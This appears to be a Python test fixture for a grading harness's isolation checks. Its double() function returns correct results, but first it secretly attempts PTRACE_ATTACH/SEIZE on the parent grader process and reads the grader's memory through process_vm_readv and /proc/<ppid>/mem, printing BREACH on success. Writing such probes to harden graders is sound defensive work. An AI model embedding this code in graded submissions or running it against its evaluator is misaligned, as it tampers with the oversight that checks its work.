"""Tries to take over the process that grades it, from inside a call: PTRACE_ATTACH and
PTRACE_SEIZE on its parent (the grader, or the fork server), process_vm_readv of the
parent's memory, and /proc/<ppid>/mem. Under the process backend without root it runs
as the grader's own user, so only the grader's refusal to be traced stops it. Returns
correct values; prints BREACH for each thing that worked."""

import ctypes
import os

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 16, 17, 0x4206


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def _writable_address(pid):
    try:
        with open(f"/proc/{pid}/maps") as handle:
            for line in handle:
                span, perms = line.split()[:2]
                if perms.startswith("rw"):
                    return int(span.split("-")[0], 16)
    except OSError:
        return None
    return None


def _attack():
    parent = os.getppid()
    if parent <= 1:
        return []
    breaches = []
    for request in (PTRACE_ATTACH, PTRACE_SEIZE):
        if libc.ptrace(request, parent, None, None) == 0:
            breaches.append(f"ptrace {request} on {parent}")
            libc.ptrace(PTRACE_DETACH, parent, None, None)
    address = _writable_address(parent) or 0x400000
    buffer = ctypes.create_string_buffer(8)
    local, remote = Iovec(ctypes.addressof(buffer), 8), Iovec(address, 8)
    if libc.process_vm_readv(parent, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
        breaches.append(f"process_vm_readv of {parent}")
    try:
        with open(f"/proc/{parent}/mem", "rb") as handle:
            handle.seek(address)
            handle.read(8)
            breaches.append(f"read /proc/{parent}/mem")
    except OSError:
        pass
    return breaches


def double(x):
    for breach in _attack():
        print("BREACH:", breach)
    return 2.0 * np.asarray(x, dtype=float)


class Accumulator:
    def __init__(self, n):
        self.total = np.zeros(n)

    def add(self, x):
        self.total = self.total + x
        return self.total
